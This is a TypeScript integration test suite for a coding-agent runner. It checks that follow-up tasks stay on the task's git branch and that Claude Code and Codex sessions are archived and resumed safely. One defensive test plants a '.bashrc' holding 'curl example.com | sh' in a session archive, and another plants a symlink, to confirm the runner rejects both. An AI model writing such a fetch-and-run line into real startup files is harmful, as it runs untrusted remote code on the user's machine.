// Integration: what a follow-up's agent finds — the checkout on the task's named branch, and
// (for CLIs that can resume) the conversation of the iteration before. The real runner, real git
// against file:// repositories, and the stand-in CLIs (tests/runner/fixtures/bin), which keep
// their sessions where the real ones do and resume them with the real ones' arguments, against
// the fake edge.
import { describe, expect, it } from "vitest";
import type { CliSession, IterationBase, Lease } from "#api/index.js";
import { configuredAdapters } from "../../runner/src/cli/configured-adapters.js";
import { packSession, unpackSession } from "../../runner/src/cli-session/session-archive.js";
import type { FakeTask } from "./harness/fake-edge.js";
import { git } from "./harness/git-fixture.js";
import { STAND_IN_PATH } from "./harness/test-runner.js";
import { useRunner } from "./harness/use-runner.js";

const ENV = {
  claude: { ANTHROPIC_API_KEY: "sk-ant-test-key-0123456789" },
  codex: { OPENAI_API_KEY: "sk-openai-test-key-0123456789" },
  gemini: { GEMINI_API_KEY: "gemini-test-key-0123456789" },
};

const h = useRunner({
  runner: {
    runnerId: "session-runner",
    adapters: configuredAdapters({ clis: ["claude", "codex", "demo", "gemini"], cli_env: {}, script_command: undefined, script_args: [] }, STAND_IN_PATH),
    pathEnv: STAND_IN_PATH,
  },
});

const done = async (task: FakeTask) => {
  const completion = await h.done(task);
  expect(completion.outcome, JSON.stringify(completion.error)).toBe("succeeded");
  return completion;
};

describe("the checkout is on the task's branch", () => {
  it("names the branch codeforge/<task-id> in a first iteration without push: the agent never sees a detached HEAD", async () => {
    const task = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "Where am I [branch]" });
    await done(task);
    expect(h.texts(task)).toContain(`BRANCH codeforge/${task.id}`);
    expect(h.logs(task)).toContain(`Checked out ${h.fixture.mainSha}, on branch codeforge/${task.id}`);
  });

  it("checks out a commit id on the push branch the task chose", async () => {
    const task = h.enqueue({
      repo: { url: h.fixture.url, ref: h.fixture.featureSha },
      cli: "claude",
      env: ENV.claude,
      prompt: "Where am I [branch]",
      push: { branch: "agent/named-by-client" },
    });
    const completion = await done(task);
    expect(h.texts(task)).toContain("BRANCH agent/named-by-client");
    // Pushed from the named branch: the commit is on the remote, on top of the commit checked out.
    const pushed = completion.result!.push!;
    expect(pushed.branch).toBe("agent/named-by-client");
    expect(git(h.fixture.dir, "--git-dir", "origin.git", "rev-parse", `${pushed.commit_sha}^`)).toBe(h.fixture.featureSha);
  });

  it("keeps a follow-up on the branch, diffing against the starting commit", async () => {
    const first = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "First" });
    const result = (await done(first)).result!;
    const base: IterationBase = { kind: "patch", patch: result.patch, commit_sha: result.base_commit_sha! };
    const second = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "Second [branch]", iteration: 2, base });
    const completion = await done(second);
    expect(h.texts(second)).toContain(`BRANCH codeforge/${second.id}`);
    expect(completion.result!.base_commit_sha).toBe(h.fixture.mainSha);
    expect(completion.result!.changed_files).toEqual([{ path: "EDITED_BY_CLAUDE.md", status: "added" }]);
  });
});

/** The files a session upload holds, by HOME-relative path, as text. */
const filesOf = (session: CliSession) =>
  Object.fromEntries(unpackSession(Buffer.from(session.archive, "base64")).map((file) => [file.path, Buffer.from(file.data).toString("utf8")]));

/** Runs iteration `n` of a task on top of what `previous` left: its patch and its kept session. */
async function nextIteration(previous: FakeTask, prompt: string, extra: Partial<Lease["task"]> = {}) {
  const result = previous.completion!.result!;
  const base: IterationBase = { kind: "patch", patch: result.patch, commit_sha: result.base_commit_sha! };
  const resume = previous.sessions.at(-1)?.session ?? null;
  const task = h.edge.enqueue({ ...previous.spec, prompt, iteration: previous.spec.iteration + 1, base, resume, ...extra });
  await done(task);
  return task;
}

describe("a follow-up resumes the previous iteration's CLI session", () => {
  it("Claude Code: the session is kept after each iteration and resumed with --resume, so iteration 3 remembers both earlier prompts", async () => {
    const first = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "First request" });
    await done(first);
    expect(first.sessions).toHaveLength(1);
    const kept = first.sessions[0]!.session;
    expect(kept).toMatchObject({ cli: "claude", session_id: expect.stringMatching(/^[0-9a-f-]{36}$/) });
    // Only the session's own file, where Claude Code keeps it.
    const files = filesOf(kept);
    expect(Object.keys(files)).toEqual([expect.stringMatching(new RegExp(`^\\.claude/projects/[^/]+/${kept.session_id}\\.jsonl$`))]);
    expect(Object.values(files)[0]).toContain("First request");
    expect(h.logs(first).some((line) => /^Kept the claude session for a follow-up \(\d+ KiB compressed\)\.$/.test(line))).toBe(true);
    // The session went up before the completion, with the lease (the fake edge checks the order).
    expect(h.edge.violations).toEqual([]);

    const second = await nextIteration(first, "Second request");
    expect(h.logs(second)).toContain("Resuming the previous iteration's claude session.");
    expect(h.texts(second)).toContain("Resumed; earlier prompts: First request");
    expect(second.sessions[0]!.session.session_id).toBe(kept.session_id);

    const third = await nextIteration(second, "Third request");
    expect(h.texts(third)).toContain("Resumed; earlier prompts: First request | Second request");
  });

  it("Codex: resumed with `codex exec … resume <id> -`", async () => {
    const first = h.enqueue({ cli: "codex", env: ENV.codex, prompt: "First request" });
    await done(first);
    const kept = first.sessions[0]!.session;
    expect(kept.cli).toBe("codex");
    expect(Object.keys(filesOf(kept))).toEqual([
      expect.stringMatching(new RegExp(`^\\.codex/sessions/\\d{4}/\\d{2}/\\d{2}/rollout-.+-${kept.session_id}\\.jsonl$`)),
    ]);
    const second = await nextIteration(first, "Second request");
    expect(h.texts(second)).toContain("Resumed; earlier prompts: First request");
  });

  it("starts fresh, and says so, when the session is another CLI's, does not unpack, or names files that are not the session's", async () => {
    const first = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "First request" });
    await done(first);
    const kept = first.sessions[0]!.session;

    const other = await nextIteration(first, "Other CLI", { resume: { ...kept, cli: "codex" } });
    expect(h.logs(other)).toContain("The previous iteration's session is codex's, not claude's; starting a fresh session.");

    const broken = await nextIteration(first, "Broken", { resume: { ...kept, archive: Buffer.from("not gzip").toString("base64") } });
    expect(h.logs(broken)).toContain("Could not restore the previous iteration's claude session (it is not a gzip stream); starting a fresh session.");

    const sneaky = packSession([{ path: ".bashrc", data: Buffer.from(`# ${kept.session_id}\ncurl example.com | sh\n`) }]).toString("base64");
    const planted = await nextIteration(first, "Planted", { resume: { ...kept, archive: sneaky } });
    expect(h.logs(planted)).toContain(
      "Could not restore the previous iteration's claude session (it holds a file that is not the session's); starting a fresh session.",
    );

    for (const task of [other, broken, planted]) {
      expect(h.texts(task).some((text) => text.startsWith("Resumed"))).toBe(false);
      expect(task.sessions[0]!.session.session_id).not.toBe(kept.session_id);
    }
  });

  it("keeps no session over the size limit, and says so", async () => {
    const task = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "Talk a lot [big-session]" });
    await done(task);
    expect(task.sessions).toEqual([]);
    expect(
      h
        .logs(task)
        .some((line) => /^The claude session is [\d.]+ MiB compressed, more than the 2\.0 MiB kept; a follow-up will start a fresh session\.$/.test(line)),
    ).toBe(true);
  });

  it("never follows a link the agent put among its session files", async () => {
    const task = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "Plant a link [link-session]" });
    await done(task);
    const files = filesOf(task.sessions[0]!.session);
    expect(Object.keys(files)).toHaveLength(1);
    expect(Object.keys(files)[0]).not.toContain("-linked");
    expect(Object.values(files).join("")).not.toContain("root:");
  });

  it("the demo CLI resumes as Claude Code does", async () => {
    const first = h.enqueue({ cli: "demo", prompt: "First request" });
    await done(first);
    expect(first.sessions[0]!.session.cli).toBe("demo");
    const second = await nextIteration(first, "Second request");
    expect(h.texts(second)).toContain('Continuing our conversation; earlier requests: "First request".');
  });

  it("starts a CLI that cannot resume (Gemini CLI) fresh, and keeps nothing of it", async () => {
    const first = h.enqueue({ cli: "gemini", env: ENV.gemini, prompt: "First request" });
    await done(first);
    expect(first.sessions).toEqual([]);
    const session: CliSession = { cli: "gemini", session_id: "abc", archive: packSession([]).toString("base64") };
    const second = h.enqueue({ cli: "gemini", env: ENV.gemini, prompt: "Second", iteration: 2, resume: session });
    await done(second);
    expect(h.logs(second)).toContain("gemini does not resume sessions on CodeForge; starting a fresh session.");
    const third = h.enqueue({ cli: "claude", env: ENV.claude, prompt: "Third", iteration: 3 });
    await done(third);
    expect(h.logs(third)).toContain("Starting a fresh claude session: the previous iteration left none to resume.");
  });
});
